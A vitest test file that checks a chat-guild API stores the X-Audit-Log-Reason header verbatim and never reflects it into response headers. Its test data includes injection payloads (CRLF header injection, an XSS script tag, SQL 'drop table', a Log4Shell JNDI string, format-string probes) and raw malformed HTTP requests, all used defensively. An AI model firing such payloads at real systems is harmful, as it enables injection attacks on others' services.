import { connect } from 'node:net'
import { describe, expect, it } from 'vitest'
import type { TestAnswer } from '../support/test-guildhall.ts'
import { bodyOf } from '../operations/support/answers.ts'
import { mask, messagesPath, sent } from '../operations/support/messages.ts'
import { openScene } from '../operations/support/scene.ts'

/** X-Audit-Log-Reason, on every guild operation that records an entry. */

const scene = await openScene()

type Headers = Readonly<Record<string, string>>
const header = 'x-audit-log-reason'
const ask = (method: string, path: string, body: object | undefined, headers: Headers = {}) =>
  scene.guildhall.request(method, path, { token: scene.ada.token, ...(body ? { body } : {}), headers })

/** The newest entry of an action in the guild's audit log. */
async function newest(action: number): Promise<Readonly<Record<string, unknown>>> {
  const path = `/v1/guilds/${scene.home.id}/audit-logs?limit=1&action_type=${action}`
  const entries = bodyOf(await ask('GET', path, undefined))['audit_log_entries'] as readonly Record<string, unknown>[]
  const [entry] = entries
  if (!entry) throw new Error(`There is no entry of action ${action}`)
  return entry
}

const guildPath = (rest: string): string => `/v1/guilds/${scene.home.id}/${rest}`
const overwrite = { type: 0, allow: '0', deny: mask('SEND_TTS_MESSAGES') }
let member = 10

/** Each one does something that is recorded, with a reason. */
const recorded: readonly (readonly [string, number, (headers: Headers) => Promise<TestAnswer>])[] = [
  ['Create role', 30, (headers) => ask('POST', guildPath('roles'), { name: 'reasoned' }, headers)],
  ['Create guild channel', 10, (headers) => ask('POST', guildPath('channels'), { name: 'reasoned', type: 0 }, headers)],
  [
    'Modify channel',
    11,
    (headers) => ask('PATCH', `/v1/channels/${scene.home.channel}`, { topic: `topic ${(member += 1)}` }, headers),
  ],
  [
    'Set channel permission',
    13,
    async (headers) => {
      await ask('DELETE', `/v1/channels/${scene.home.channel}/permissions/${scene.home.id}`, undefined)
      return ask('PUT', `/v1/channels/${scene.home.channel}/permissions/${scene.home.id}`, overwrite, headers)
    },
  ],
  [
    'Ban member',
    22,
    async (headers) => {
      const { id } = await scene.guildhall.register()
      return ask('PUT', guildPath(`bans/${id}`), {}, headers)
    },
  ],
  [
    'Delete message',
    72,
    async (headers) => {
      const id = await sent(scene.guildhall, scene.ada, scene.home.channel, 'gone soon')
      return ask('DELETE', messagesPath(scene.home.channel, id), undefined, headers)
    },
  ],
  [
    'Bulk delete messages',
    73,
    async (headers) => {
      const id = await sent(scene.guildhall, scene.ada, scene.home.channel, 'gone soon')
      const path = `/v1/channels/${scene.home.channel}/messages/bulk-delete`
      return ask('POST', path, { message_ids: [id] }, headers)
    },
  ],
]

describe.each(recorded)('the reason of %s', (_, action, act) => {
  it.each([
    ['%0d%0aX-Evil: 1'],
    ['<script>alert(1)</script>'],
    ["'; drop table messages; --"],
    ['${jndi:ldap://example.com/a}'],
    ['{{7*7}} %s %n'],
    ['x'.repeat(512)],
  ])('is kept as it is, and sent back in no header: %.40s', async (reason) => {
    const answer = await act({ [header]: reason })
    expect(answer.status).toBeLessThan(300)
    expect((await newest(action))['reason']).toBe(reason)
    expect(JSON.stringify([...answer.headers])).not.toContain(reason.slice(0, 20))
    expect(answer.headers.get('x-evil')).toBeNull()
  })

  it.each([['x'.repeat(513)], ['x'.repeat(7000)], ['   ']])(
    'is dropped without an error if it is blank or too long: %.10s',
    async (reason) => {
      expect((await act({ [header]: reason })).status).toBeLessThan(300)
      expect(await newest(action)).not.toHaveProperty('reason')
    },
  )
})

/** The server's answer to bytes that no HTTP client sends. */
function raw(request: string): Promise<string> {
  const { hostname, port } = new URL(scene.guildhall.url)
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), hostname, () => socket.write(request))
    let answer = ''
    socket.setEncoding('utf8')
    socket.on('data', (text: string) => (answer += text))
    socket.on('end', () => resolve(answer))
    socket.on('error', reject)
  })
}

describe('a reason that breaks out of its header', () => {
  const request = (reason: string): string =>
    [
      `POST ${guildPath('roles')} HTTP/1.1`,
      'Host: x',
      `Authorization: ${scene.ada.token}`,
      `X-Audit-Log-Reason: ${reason}`,
      'Content-Length: 17',
      'Connection: close',
      '',
      '{"name":"broken"}',
    ].join('\r\n')

  it('by a line break becomes another header of the request, and no header of the answer', async () => {
    const answer = await raw(request('harmless\r\nX-Evil: 1'))
    expect(answer).toMatch(/^HTTP\/1\.1 20\d/)
    expect(answer.toLowerCase()).not.toContain('x-evil')
    expect((await newest(30))['reason']).toBe('harmless')
  })

  it.each(['bare\rreturn', 'null\0byte'])('by %j is not a valid request', async (reason) => {
    expect(await raw(request(reason))).toMatch(/^HTTP\/1\.1 400/)
  })

  it('of 100 KB is refused before it is read', async () => {
    expect(await raw(request('x'.repeat(100_000)))).toMatch(/^HTTP\/1\.1 4(?:00|31) /)
  })
})
